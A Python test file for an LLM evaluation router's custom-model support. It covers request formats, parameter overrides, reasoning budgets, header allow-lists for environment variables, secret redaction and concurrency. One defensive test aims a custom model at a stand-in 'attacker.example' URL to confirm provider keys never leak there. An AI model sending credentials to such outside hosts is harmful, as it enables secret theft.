"""Custom model objects from a blueprint: every option, the header allow-list, and key safety.

Expected bodies are written from the format guide's custom-model section
(seeds/000, "Model Configuration"): ``parameters`` win over everything and
``null`` removes a key; ``parameterMapping`` renames standard parameters;
``reasoningEffort``/``thinkingBudget`` become each format's reasoning field.
"""

from __future__ import annotations

import asyncio
import json

import httpx
import pytest

from blueprints.spec.parse import parse_blueprint
from blueprints.spec.schema import CustomModel
from runs.engine.providers import Router, check_models, settings_from_env
from runs.engine.types import ChatRequest

CONVERSATION = (
    {"role": "system", "content": "Be terse."},
    {"role": "user", "content": "Hi"},
    {"role": "assistant", "content": "Hello."},
    {"role": "user", "content": "Capital of France?"},
)
OPENAI_ANSWER = {"choices": [{"message": {"content": "Paris"}, "finish_reason": "stop"}],
                 "usage": {"prompt_tokens": 5, "completion_tokens": 1}}


def custom(**fields) -> CustomModel:
    base = {"id": "local:model", "url": "http://127.0.0.1:9/v1/chat/completions", "modelName": "m1",
            "inherit": "openai"}
    base.update(fields)
    extra = {k: base.pop(k) for k in ("reasoningEffort", "thinkingBudget") if k in base}
    return CustomModel.model_validate({**base, "extra": extra})


def send(model: CustomModel, answer: dict, *, env=None, messages=CONVERSATION, temperature=0.4, max_tokens=None):
    """One call through the router; returns (result, captured httpx requests)."""
    seen: list[httpx.Request] = []

    def handler(request: httpx.Request) -> httpx.Response:
        seen.append(request)
        return httpx.Response(200, json=answer)

    async def main():
        settings = settings_from_env(env or {}, backoff_base_s=0.001, backoff_max_s=0.001)
        async with Router(settings, custom_models=[model], transport=httpx.MockTransport(handler)) as router:
            return await router.complete(ChatRequest(model_id=model.id, messages=messages,
                                                     temperature=temperature, max_tokens=max_tokens))

    return asyncio.run(main()), seen


def body_of(request: httpx.Request) -> dict:
    return json.loads(request.content)


# -- request bodies ------------------------------------------------------------


def test_an_openai_style_custom_model_sends_messages_with_stream_false_to_its_url():
    result, (request,) = send(custom(), OPENAI_ANSWER)
    assert result.text == "Paris" and result.cost_usd is None  # no price for one's own endpoint
    assert str(request.url) == "http://127.0.0.1:9/v1/chat/completions"
    assert body_of(request) == {"model": "m1", "messages": list(CONVERSATION), "stream": False,
                                "temperature": 0.4, "max_tokens": 1500}


def test_parameters_win_over_everything_and_null_removes_a_parameter():
    model = custom(parameters={"max_tokens": 150, "temperature": 0.9, "stream": None, "stop": ["END"],
                               "custom_param": "value", "top_p": None})
    _, (request,) = send(model, OPENAI_ANSWER, max_tokens=64)
    assert body_of(request) == {"model": "m1", "messages": list(CONVERSATION), "temperature": 0.9,
                                "max_tokens": 150, "stop": ["END"], "custom_param": "value"}


def test_falsy_parameter_values_are_kept():
    model = custom(parameters={"temperature": 0, "echo": False, "suffix": "", "n": 0})
    _, (request,) = send(model, OPENAI_ANSWER)
    body = body_of(request)
    assert (body["temperature"], body["echo"], body["suffix"], body["n"]) == (0, False, "", 0)


def test_parameter_mapping_renames_standard_parameters_before_parameters_apply():
    model = custom(parameterMapping={"temperature": "heat", "maxTokens": "token_limit", "topP": "nucleus"},
                   parameters={"heat": 0.9, "custom_param": "value"})
    _, (request,) = send(model, OPENAI_ANSWER, max_tokens=200)
    assert body_of(request) == {"model": "m1", "messages": list(CONVERSATION), "stream": False, "heat": 0.9,
                                "token_limit": 200, "custom_param": "value"}


def test_an_anthropic_style_custom_model_puts_the_system_prompt_on_top_and_thinks_with_a_budget():
    model = custom(id="proxy:claude", url="http://127.0.0.1:9/v1/messages", modelName="claude-x",
                   inherit="anthropic", thinkingBudget=2048, headers={"X-Custom-Header": "value"})
    answer = {"content": [{"type": "thinking", "thinking": "hmm"}, {"type": "text", "text": "Paris"}],
              "usage": {"input_tokens": 9, "output_tokens": 4}, "stop_reason": "end_turn"}
    result, (request,) = send(model, answer)
    assert result.text == "Paris" and result.usage.output_tokens == 4
    assert request.headers["anthropic-version"] == "2023-06-01"
    assert request.headers["x-custom-header"] == "value"
    assert body_of(request) == {
        "model": "claude-x", "stream": False, "system": "Be terse.", "temperature": 0.4, "max_tokens": 1500,
        "messages": list(CONVERSATION[1:]), "thinking": {"type": "enabled", "budget_tokens": 2048},
    }


def test_reasoning_effort_becomes_a_thinking_budget_where_the_format_takes_one():
    model = custom(inherit="anthropic", reasoningEffort="medium")
    answer = {"content": [{"type": "text", "text": "ok"}]}
    _, (request,) = send(model, answer)
    assert body_of(request)["thinking"] == {"type": "enabled", "budget_tokens": 4096}


def test_a_google_style_custom_model_sends_contents_and_generation_config_only():
    model = custom(id="proxy:gemini", url="http://127.0.0.1:9/v1beta/models/g:generateContent", modelName="g",
                   inherit="google", reasoningEffort="low", parameterMapping={"maxTokens": "maxOutputTokens"})
    answer = {"candidates": [{"content": {"parts": [{"text": "Paris"}]}, "finishReason": "STOP"}],
              "usageMetadata": {"promptTokenCount": 7, "candidatesTokenCount": 1}}
    result, (request,) = send(model, answer, max_tokens=99)
    assert result.text == "Paris" and result.finish_reason == "STOP"
    assert body_of(request) == {
        "systemInstruction": {"parts": [{"text": "Be terse."}]},
        "contents": [{"role": "user", "parts": [{"text": "Hi"}]}, {"role": "model", "parts": [{"text": "Hello."}]},
                     {"role": "user", "parts": [{"text": "Capital of France?"}]}],
        "generationConfig": {"temperature": 0.4, "maxOutputTokens": 99, "thinkingConfig": {"thinkingBudget": 1024}},
    }


@pytest.mark.parametrize("inherit", ["openai", "together", "xai", "openrouter", "mistral"])
def test_openai_like_custom_models_send_reasoning_effort(inherit):
    model = custom(inherit=inherit, reasoningEffort="high", parameterMapping={"reasoningEffort": "effort"}
                   if inherit == "mistral" else None)
    _, (request,) = send(model, OPENAI_ANSWER)
    key = "effort" if inherit == "mistral" else "reasoning_effort"
    assert body_of(request)[key] == "high"


@pytest.mark.parametrize("prompt_format, expected", [
    (None, "Be terse.\n\nUser: Hi\nAssistant: Hello.\nUser: Capital of France?\nAssistant:"),
    ("conversational", "Be terse.\n\nUser: Hi\nAssistant: Hello.\nUser: Capital of France?\nAssistant:"),
    ("raw", "Be terse.\n\nHi\n\nHello.\n\nCapital of France?"),
])
def test_a_completions_format_model_gets_one_prompt_in_the_chosen_layout(prompt_format, expected):
    model = custom(url="http://127.0.0.1:9/v1/completions", format="completions", promptFormat=prompt_format)
    answer = {"choices": [{"text": " Paris\n", "finish_reason": "stop"}], "usage": {"prompt_tokens": 3,
                                                                                    "completion_tokens": 1}}
    result, (request,) = send(model, answer)
    assert result.text == "Paris"
    assert body_of(request) == {"model": "m1", "stream": False, "prompt": expected, "temperature": 0.4,
                                "max_tokens": 1500}


def test_options_written_in_a_blueprint_reach_the_request():
    parsed = parse_blueprint(
        "models:\n"
        "  - id: 'local:llama3-8b'\n"
        "    url: 'http://127.0.0.1:9/v1/chat/completions'\n"
        "    modelName: 'llama3:instruct'\n"
        "    inherit: 'openai'\n"
        "    reasoningEffort: low\n"
        "    headers:\n"
        "      Authorization: 'Bearer whatever-i-want'\n"
        "    parameters:\n"
        "      max_tokens: 150\n"
        "      stream: null\n"
        "---\n"
        "- prompt: hi\n  should: [greets]\n"
    )
    assert parsed.ok, [e.message for e in parsed.errors]
    model, = parsed.blueprint.models
    _, (request,) = send(model, OPENAI_ANSWER, messages=({"role": "user", "content": "hi"},))
    assert request.headers["authorization"] == "Bearer whatever-i-want"
    assert body_of(request) == {"model": "llama3:instruct", "messages": [{"role": "user", "content": "hi"}],
                                "temperature": 0.4, "max_tokens": 150, "reasoning_effort": "low"}


# -- keys and the environment allow-list ---------------------------------------------


def test_a_custom_model_never_receives_a_provider_key():
    env = {"OPENAI_API_KEY": "sk-real-openai-key", "ANTHROPIC_API_KEY": "sk-ant-real"}
    for inherit in ("openai", "anthropic"):
        answer = OPENAI_ANSWER if inherit == "openai" else {"content": [{"type": "text", "text": "x"}]}
        _, (request,) = send(custom(inherit=inherit, url="https://attacker.example/v1/chat/completions"),
                             answer, env=env)
        sent = " ".join(f"{k}: {v}" for k, v in request.headers.items()) + request.content.decode()
        assert "sk-real-openai-key" not in sent and "sk-ant-real" not in sent


def test_a_header_variable_the_operator_has_not_allowed_fails_before_any_request():
    model = custom(headers={"X-API-Key": "${PROXY_API_KEY}"})
    env = {"PROXY_API_KEY": "secret-proxy-key"}  # set, but not listed in EVALSITE_BLUEPRINT_ENV
    result, requests = send(model, OPENAI_ANSWER, env=env)
    assert requests == []
    assert result.error == (
        "custom model 'local:model': header 'X-API-Key' uses ${PROXY_API_KEY}, which the operator has not allowed "
        "blueprints to use; to allow it, add PROXY_API_KEY to EVALSITE_BLUEPRINT_ENV (a comma-separated list of "
        "variable names) and restart"
    )
    assert not result.retryable
    problems = check_models([model], env)
    assert [(p.model_id, p.message, p.variable) for p in problems] == [("local:model", result.error, "PROXY_API_KEY")]


def test_an_allowed_variable_that_is_not_set_is_named():
    model = custom(headers={"Authorization": "Bearer ${ENTERPRISE_API_KEY}"})
    result, requests = send(model, OPENAI_ANSWER, env={"EVALSITE_BLUEPRINT_ENV": "ENTERPRISE_API_KEY"})
    assert requests == []
    assert "${ENTERPRISE_API_KEY}, which is allowed but not set in the environment" in result.error


def test_an_allowed_variable_is_filled_in_and_never_echoed_back(fake_llm):
    model = custom(url=fake_llm.base_url + "/v1/chat/completions", modelName="always-401",
                   headers={"Authorization": "Bearer ${PROXY_API_KEY}", "X-Org-ID": "${ORG}-eu"})
    env = {"EVALSITE_BLUEPRINT_ENV": "PROXY_API_KEY,ORG", "PROXY_API_KEY": "proxy-secret-4242424242",
           "ORG": "acme"}
    result = asyncio.run(_through_fake(model, env))
    sent = fake_llm.requests("always-401")[0]["headers"]
    assert sent["authorization"] == "Bearer proxy-secret-4242424242" and sent["x-org-id"] == "acme-eu"
    assert result.error.startswith("401 from custom model 'local:model': Incorrect API key provided: [redacted]")
    assert "proxy-secret" not in result.error and "(check the custom model's headers)" in result.error


async def _through_fake(model, env):
    async with Router(settings_from_env(env), custom_models={model.id: model}) as router:
        return await router.complete(ChatRequest(model_id=model.id, messages=({"role": "user", "content": "x"},)))


def test_a_local_endpoint_works_end_to_end_through_http(fake_llm):
    model = custom(id="local:ollama", url=fake_llm.base_url + "/v1/chat/completions", modelName="llama3:instruct")
    result = asyncio.run(_through_fake(model, {}))
    assert result.text == "Echo: x" and result.usage.output_tokens == 2
    assert fake_llm.requests()[0]["body"]["stream"] is False


def test_each_custom_model_has_its_own_concurrency_limit():
    peak: dict[str, int] = {}
    now: dict[str, int] = {}

    async def handler(request: httpx.Request) -> httpx.Response:
        host = request.url.host
        now[host] = now.get(host, 0) + 1
        peak[host] = max(peak.get(host, 0), now[host])
        await asyncio.sleep(0.02)
        now[host] -= 1
        return httpx.Response(200, json=OPENAI_ANSWER)

    one = custom(id="local:one", url="http://one.test/v1/chat/completions")
    two = custom(id="lab:two", url="http://two.test/v1/chat/completions")
    settings = settings_from_env({"EVALSITE_CONCURRENCY": "4", "EVALSITE_CONCURRENCY_LOCAL": "1"})

    async def main():
        async with Router(settings, custom_models=[one, two], transport=httpx.MockTransport(handler)) as router:
            requests = [ChatRequest(model_id=m, messages=({"role": "user", "content": "x"},))
                        for m in ["local:one"] * 6 + ["lab:two"] * 8]
            return await asyncio.gather(*(router.complete(r) for r in requests))

    assert all(r.ok for r in asyncio.run(main()))
    assert peak == {"one.test": 1, "two.test": 4}


# -- check_models ------------------------------------------------------------------


def test_check_models_lists_every_problem_before_a_run_and_nothing_for_good_models():
    env = {"OPENAI_API_KEY": "k", "GOOGLE_API_KEY": "g"}
    models = ["openai:gpt-4o-mini", "openai:gpt-4o-mini[temp:0.5]", "google:gemini-2.5-flash",
              "anthropic:claude-3-5-haiku-20241022", "mistral:mistral-large-latest", "nope:model",
              "fixtures:demo", "IDEAL_MODEL_ID", custom(headers={"X": "${SECRET}"})]
    problems = check_models(models, env)
    assert [(p.model_id, p.variable) for p in problems] == [
        ("anthropic:claude-3-5-haiku-20241022", "ANTHROPIC_API_KEY"),
        ("mistral:mistral-large-latest", "MISTRAL_API_KEY"),
        ("nope:model", None),
        ("fixtures:demo", None),
        ("local:model", "SECRET"),
    ]
    assert "set ANTHROPIC_API_KEY" in problems[0].message
    assert "fixtures" in problems[3].message
    assert "GEMINI_API_KEY (or GOOGLE_API_KEY)" in check_models(["google:x"], {})[0].message
